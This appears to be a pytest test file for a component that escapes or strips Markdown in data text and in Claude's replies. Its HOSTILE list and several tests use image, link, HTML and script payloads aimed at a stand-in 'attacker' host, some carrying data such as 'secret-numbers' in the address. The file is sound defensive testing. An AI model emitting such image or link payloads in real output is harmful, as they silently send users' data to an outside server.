"""Markdown from data and from Claude: nothing in it may load, link or run (issue 9, point 6;
issue 18, point 3: addresses are shown as code, which no Markdown renderer autolinks)."""

import pytest

from components.text import escape_markdown, model_markdown
from tests.markdown_checks import live_markup, visible_text

HOSTILE = [
    "![x](http://attacker/?d=secret-numbers)",
    "![x][1]\n\n[1]: http://attacker/?d=42",
    "<http://attacker/x>",
    '<img src="http://attacker/x.png">',
    "![x](data:image/png;base64,AAAA)",
    "[![x](http://attacker/a)](http://attacker/b)",
    "[[nested [deep]]](http://attacker/c)",
    "www.attacker.com/x and https://attacker.com/y",
    ":red[coloured] :material/home: $x^2$",
    "&#33;[x](http://attacker/e)",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_data_text_has_no_markup(text: str) -> None:
    rendered = escape_markdown(text)
    assert live_markup(rendered) == []
    assert visible_text(rendered) == " ".join(text.split())  # shows exactly as typed


@pytest.mark.parametrize("text", HOSTILE)
def test_model_text_has_no_images_links_or_html(text: str) -> None:
    assert live_markup(model_markdown(text)) == []


def test_model_images_are_dropped_with_their_address() -> None:
    rendered = model_markdown("Sales rose. ![chart](http://attacker/?d=secret-numbers)")
    assert "secret-numbers" not in rendered
    assert visible_text(rendered) == "Sales rose. chart"


def test_model_reference_images_lose_their_definition() -> None:
    rendered = model_markdown("Look ![x][1] here.\n\n[1]: http://attacker/?d=42\n")
    assert "attacker" not in rendered
    assert "42" not in rendered


def test_model_links_become_plain_text_with_the_address() -> None:
    rendered = model_markdown("See [the report](https://example.org/r) for more.")
    assert visible_text(rendered) == "See the report (https://example.org/r) for more."
    assert live_markup(rendered) == []


def test_model_autolinks_and_html_are_text() -> None:
    rendered = model_markdown('Go <https://attacker/x> <img src="http://attacker/i"> now')
    assert visible_text(rendered) == 'Go https://attacker/x <img src="http://attacker/i"> now'
    assert live_markup(rendered) == []


def test_model_keeps_bold_and_plain_numbers() -> None:
    rendered = model_markdown("The total is **1,234** (about _5%_ more).")
    assert "**1,234**" in rendered and "_5%_" in rendered
    assert visible_text(rendered) == "The total is 1,234 (about 5% more)."


def test_backslashes_cannot_undo_the_escaping() -> None:
    for render in (escape_markdown, model_markdown):
        rendered = render("\\![x](http://attacker/x)")
        assert live_markup(rendered) == []
